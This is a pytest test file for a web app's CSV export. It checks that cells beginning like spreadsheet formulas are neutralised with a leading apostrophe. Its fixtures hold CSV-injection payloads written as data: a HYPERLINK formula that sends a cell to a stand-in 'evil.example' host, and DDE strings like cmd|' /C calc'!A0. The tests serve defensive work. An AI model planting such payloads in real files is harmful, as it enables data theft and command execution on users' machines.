"""CSV injection (issue 15, point 2): a cell of the CSV export never starts a spreadsheet formula.

Titles, summaries, publishers, actors and places come from third-party articles. The OWASP rule:
a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe,
so a spreadsheet shows it as text. JSON keeps every value exactly as stored.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session

from app.config import PROJECT_ROOT
from app.db import get_engine
from app.models import Actor, Article, Collection, Event, EventActor, EventLocation, Location, Mention
from app.spreadsheet import FORMULA_STARTS, inert_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1, "Click for the source")'
HOSTILE = {
    "title": HYPERLINK,
    "summary": "-2+3+cmd|' /C calc'!A0",
    "publisher": "@SUM(1+1)*cmd|' /C calc'!A0",
    "initiator": "+Militia of =North",
    "target": "\tTabbed target",
    "place": "\rCarriage town",
}


@pytest.fixture
def hostile_settings(fresh_settings):
    created = dt.datetime(2024, 1, 1, tzinfo=dt.timezone.utc)
    text = "Shelling hit the town on Tuesday."
    with Session(get_engine(fresh_settings.database_url)) as session:
        session.add(Article(id="formula001", content_hash="f" * 64, title=HYPERLINK, publisher=HOSTILE["publisher"],
                            published=dt.date(2023, 9, 20), text=text, sentence_spans=[[0, len(text)]],
                            body_spans=[[0, len(text)]]))
        session.add(Event(id="formula0001", slug="event", title=HOSTILE["title"], summary=HOSTILE["summary"],
                          type="attack", date_start=dt.date(2023, 9, 19), date_end=dt.date(2023, 9, 19),
                          precision="day", date_method="explicit", sources_count=1, created_at=created,
                          updated_at=created))
        session.add_all([Actor(id="militia", name=HOSTILE["initiator"], kind="group"),
                         Actor(id="target", name=HOSTILE["target"], kind="group"),
                         Location(id="carriage", name=HOSTILE["place"], country=None)])
        session.flush()
        session.add_all([
            Mention(key="formula0001m", event_id="formula0001", article_id="formula001", sentence_index=0,
                    start=0, end=len(text), sentence=text, type="attack"),
            EventActor(event_id="formula0001", actor_id="militia", role="initiator"),
            EventActor(event_id="formula0001", actor_id="target", role="target"),
            EventLocation(event_id="formula0001", location_id="carriage"),
        ])
        session.commit()
    return fresh_settings


@pytest.fixture
def hostile_client(hostile_settings):
    from app.main import create_app

    with TestClient(create_app(hostile_settings)) as client:
        yield client


def rows_of(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body, newline="")))


def assert_no_formula_cells(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), f"{column} starts a formula: {cell!r}"


def test_csv_cells_that_start_like_formulas_are_kept_as_text(hostile_client):
    rows = rows_of(hostile_client.get("/export.csv").text)
    assert_no_formula_cells(rows)
    row = rows[0]
    assert row["title"] == "'" + HOSTILE["title"]
    assert row["notes"] == "'" + HOSTILE["summary"]
    assert row["source"] == "'" + HOSTILE["publisher"]
    assert row["actor1"] == "'" + HOSTILE["initiator"]
    assert row["actor2"] == "'" + HOSTILE["target"]
    assert row["location"] == "'" + HOSTILE["place"]
    # Ordinary cells are untouched: dates, ids, numbers and links read as before.
    assert (row["event_id_cnty"], row["event_date"], row["year"], row["sources_count"]) == (
        "formula0001", "2023-09-19", "2023", "1")
    assert row["permalink"].startswith("http://testserver/events/formula0001/")


def test_json_keeps_the_values_exactly(hostile_client):
    event = hostile_client.get("/export.json").json()["events"][0]
    assert (event["title"], event["summary"]) == (HOSTILE["title"], HOSTILE["summary"])
    assert event["mentions"][0]["publisher"] == HOSTILE["publisher"]
    api = hostile_client.get("/api/events/formula0001").json()
    assert api["title"] == HOSTILE["title"]


def test_the_command_line_csv_is_neutralised_too(hostile_settings):
    env = dict(os.environ, TIMELINE_DATA_DIR=str(hostile_settings.data_dir), DATABASE_URL=hostile_settings.database_url)
    result = subprocess.run([sys.executable, "-m", "app.cli", "export", "--format", "csv"], capture_output=True,
                            env=env, cwd=PROJECT_ROOT, timeout=300, text=True)
    assert result.returncode == 0, result.stderr
    rows = rows_of(result.stdout)
    assert_no_formula_cells(rows)
    assert rows[0]["title"] == "'" + HOSTILE["title"]


@pytest.fixture
def hostile_collection(hostile_settings):
    """The hostile event in a collection of its own, whose name starts like a formula too."""
    from sqlalchemy import update

    with Session(get_engine(hostile_settings.database_url)) as session:
        collection = Collection(slug="hostile", name="=cmd|' /C calc'!A0", description="@SUM(1)")
        session.add(collection)
        session.flush()
        session.execute(update(Article).where(Article.id == "formula001").values(collection_id=collection.id))
        session.execute(update(Event).where(Event.id == "formula0001").values(collection_id=collection.id))
        session.commit()
    return hostile_settings


def test_a_collections_csv_is_neutralised_too(hostile_collection):
    from app.main import create_app

    with TestClient(create_app(hostile_collection)) as client:
        for path in ("/c/hostile/export.csv", "/export.csv?collection=hostile"):
            rows = rows_of(client.get(path).text)
            assert [row["event_id_cnty"] for row in rows] == ["formula0001"], path
            assert_no_formula_cells(rows)
            assert rows[0]["title"] == "'" + HOSTILE["title"] and rows[0]["source"] == "'" + HOSTILE["publisher"]
        assert rows_of(client.get("/c/default/export.csv").text) == []
    env = dict(os.environ, TIMELINE_DATA_DIR=str(hostile_collection.data_dir),
               DATABASE_URL=hostile_collection.database_url)
    result = subprocess.run([sys.executable, "-m", "app.cli", "export", "--format", "csv", "--collection", "hostile"],
                            capture_output=True, env=env, cwd=PROJECT_ROOT, timeout=300, text=True)
    assert result.returncode == 0, result.stderr
    rows = rows_of(result.stdout)
    assert len(rows) == 1
    assert_no_formula_cells(rows)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Plain title", "Plain title"), ("2023-09-19", "2023-09-19"), ("", ""), (12, 12), (None, None),
])
def test_the_rule(value, expected):
    assert inert_cell(value) == expected
